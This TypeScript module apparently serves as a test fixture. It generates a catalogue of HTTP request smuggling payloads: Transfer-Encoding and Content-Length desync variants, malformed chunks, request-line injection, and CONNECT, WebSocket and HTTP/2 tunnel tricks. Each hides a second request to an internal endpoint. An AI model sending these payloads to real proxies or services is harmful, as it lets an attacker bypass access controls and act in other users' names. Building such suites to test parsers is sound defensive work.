/**
 * Bytes that a proxy and a service could read as different numbers of requests (RFC 9112 section
 * 11.2). Each begins with one request; what follows would be another one for one of the two.
 */

const OWN = 'Host: login.example.com\r\n';
const JSON_TYPE = 'Content-Type: application/json\r\n';
/** What would be executed in somebody else's name. */
const HIDDEN = `GET /api/v1/hidden HTTP/1.1\r\n${OWN}X: `;
const CHUNKED = 'Transfer-Encoding: chunked\r\n';

function post(lines: string, body: string): string {
  return `POST /api/v1/start HTTP/1.1\r\n${OWN}${JSON_TYPE}${lines}\r\n${body}`;
}

/** A body that ends at once for who reads chunks, and has another request for who reads lengths. */
function endsAtOnce(coding: string): string {
  const body = `0\r\n\r\n${HIDDEN}`;
  return post(`Content-Length: ${body.length}\r\n${coding}`, body);
}

/** A body that is short for who reads lengths, and has another request for who reads chunks. */
function shortByLength(coding: string): string {
  const chunk = `${HIDDEN}y\r\n\r\n`;
  const size = chunk.length.toString(16);
  return post(
    `Content-Length: ${size.length + 2}\r\n${coding}`,
    `${size}\r\n${chunk}\r\n0\r\n\r\n`,
  );
}

const CODINGS: Readonly<Record<string, string>> = {
  chunked: CHUNKED,
  'a space before the colon': 'Transfer-Encoding : chunked\r\n',
  'a tab after the colon': 'Transfer-Encoding:\tchunked\r\n',
  'a line that goes on': 'Transfer-Encoding:\r\n chunked\r\n',
  'a space before the name': ' Transfer-Encoding: chunked\r\n',
  'a vertical tab': 'Transfer-Encoding: \x0bchunked\r\n',
  'another word': 'Transfer-Encoding: xchunked\r\n',
  'two codings': 'Transfer-Encoding: chunked, identity\r\n',
  'two lines': `${CHUNKED}Transfer-Encoding: x\r\n`,
  'capital letters': 'TRANSFER-ENCODING: CHUNKED\r\n',
  quotes: 'Transfer-Encoding: "chunked"\r\n',
  'a line that ends with LF alone': `X: y\nTransfer-Encoding: chunked\r\n`,
  'a line that ends with CR alone': `X: y\rTransfer-Encoding: chunked\r\n`,
  'a null byte': `X: y\0\r\n${CHUNKED}`,
  'an underscore': 'Transfer_Encoding: chunked\r\n',
};

const LENGTHS: Readonly<Record<string, string>> = {
  'two lengths': 'Content-Length: 0\r\nContent-Length: 40\r\n',
  'two lengths, the smaller last': 'Content-Length: 40\r\nContent-Length: 0\r\n',
  'a list of lengths': 'Content-Length: 0, 40\r\n',
  'a sign': 'Content-Length: +0\r\n',
  'a negative length': 'Content-Length: -1\r\n',
  'a length in another base': 'Content-Length: 0x28\r\n',
  'a space in the length': 'Content-Length: 0 40\r\n',
  'a length over two lines': 'Content-Length: 0\r\n 40\r\n',
  'a space after the name': 'Content-Length : 40\r\n',
};

const CHUNKS: Readonly<Record<string, string>> = {
  'an extension of a chunk with LF': `2;\n{}\r\n0\r\n\r\n`,
  'an extension of a chunk': `2;x="\r\n"\r\n{}\r\n0\r\n\r\n`,
  'a size in another notation': `0x2\r\n{}\r\n0\r\n\r\n`,
  'a size that is too large for a number': `10000000000000002\r\n{}\r\n0\r\n\r\n`,
  'a negative size': `-2\r\n{}\r\n0\r\n\r\n`,
  'a chunk that ends with LF': `2\n{}\n0\n\n`,
  'a trailer with a length': `2\r\n{}\r\n0\r\nContent-Length: 40\r\n\r\n`,
  'a chunk that is longer than its size': `2\r\n{}xx\r\n0\r\n\r\n`,
};

function get(lines: string, rest: string): string {
  return `GET /livez HTTP/1.1\r\n${OWN}${lines}\r\n${rest}`;
}

/** @param lines what the other protocol needs besides its name */
function upgrade(protocol: string, lines: string): string {
  return get(`Connection: Upgrade, HTTP2-Settings\r\nUpgrade: ${protocol}\r\n${lines}`, HIDDEN);
}

const OTHERS: Readonly<Record<string, string>> = {
  'a GET with a body': get('Content-Length: 40\r\n', HIDDEN.slice(0, 40)),
  'a head that ends with LF': `GET /livez HTTP/1.1\n${OWN.trim()}\n\n${HIDDEN}y\r\n\r\n`,
  'another host in the target': `GET https://evil.example/livez HTTP/1.1\r\n${OWN}\r\n${HIDDEN}`,
  'HTTP/1.0 with chunks': `POST /api/v1/start HTTP/1.0\r\n${OWN}${CHUNKED}\r\n0\r\n\r\n${HIDDEN}`,
  'a request for HTTP/2 in clear': upgrade('h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n'),
  'headers that Connection takes away': get(
    'Connection: close, Host, Content-Length, X-Forwarded-For\r\n',
    '',
  ),
  'an expectation': post('Expect: 100-continue\r\nContent-Length: 2\r\n', `{}${HIDDEN}`),
  'a line break in the path': `GET /livez%0d%0aX:%20y HTTP/1.1\r\n${OWN}\r\n${HIDDEN}`,
  'spaces in the target': `GET /livez HTTP/1.1 /api/v1/hidden HTTP/1.1\r\n${OWN}\r\n${HIDDEN}`,
};

const PLAIN_CONNECT = { ':method': 'CONNECT', ':authority': 'login.example.com:443' };
const EXTENDED_CONNECT = {
  ':method': 'CONNECT',
  ':protocol': 'websocket',
  ':scheme': 'https',
  ':authority': 'login.example.com',
  ':path': '/livez',
  'sec-websocket-version': '13',
};
const WEBSOCKET_KEY = 'AAAAAAAAAAAAAAAAAAAAAA==';

function connectTo(target: string, lines: string): string {
  return `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n${lines}\r\n`;
}

/** Requests after which the connection would have no more requests that a proxy reads. */
export const TUNNELS: Readonly<Record<string, string>> = {
  'a CONNECT': connectTo('login.example.com:443', '') + `${HIDDEN}y\r\n\r\n`,
  'a CONNECT with a length': connectTo('login.example.com:443', 'Content-Length: 0\r\n'),
  'a CONNECT to elsewhere': connectTo('evil.example:443', ''),
  'a WebSocket': upgrade(
    'websocket',
    `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${WEBSOCKET_KEY}\r\n`,
  ),
  'an upgrade in a list': get('Connection: keep-alive, UPGRADE\r\nUpgrade: h2c\r\n', ''),
  'an upgrade without a protocol': get('Connection: upgrade\r\n', ''),
  'an upgrade in a second line': get('Connection: close\r\nConnection: upgrade\r\n', ''),
};

/** The same by HTTP/2 (RFC 9113 section 8.5, RFC 8441), and methods that are none. */
export const TUNNELS_BY_HTTP2: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'a CONNECT': PLAIN_CONNECT,
  'a CONNECT to elsewhere': { ...PLAIN_CONNECT, ':authority': 'evil.example:443' },
  'a WebSocket': { ...EXTENDED_CONNECT, 'sec-websocket-key': WEBSOCKET_KEY },
  'another protocol': { ...EXTENDED_CONNECT, ':protocol': 'connect-udp' },
  'a method with a target': { ':method': 'GET /metrics?', ':path': '/livez' },
  'a method with a request': { ':method': 'GET /livez HTTP/1.1\\r\\n', ':path': '/livez' },
  'a method that nobody has': { ':method': 'TUNNEL', ':path': '/livez' },
};

export const ATTACKS: readonly (readonly [string, string])[] = [
  ...Object.entries(CODINGS).flatMap(([what, coding]) => [
    [`${what}, with a body that ends at once`, endsAtOnce(coding)] as const,
    [`${what}, with a length that is short`, shortByLength(coding)] as const,
  ]),
  ...Object.entries(LENGTHS).map(([what, lines]) => [what, post(lines, HIDDEN)] as const),
  ...Object.entries(CHUNKS).map(([what, body]) => [what, post(CHUNKED, body + HIDDEN)] as const),
  ...Object.entries(OTHERS),
  ...Object.entries(TUNNELS),
];
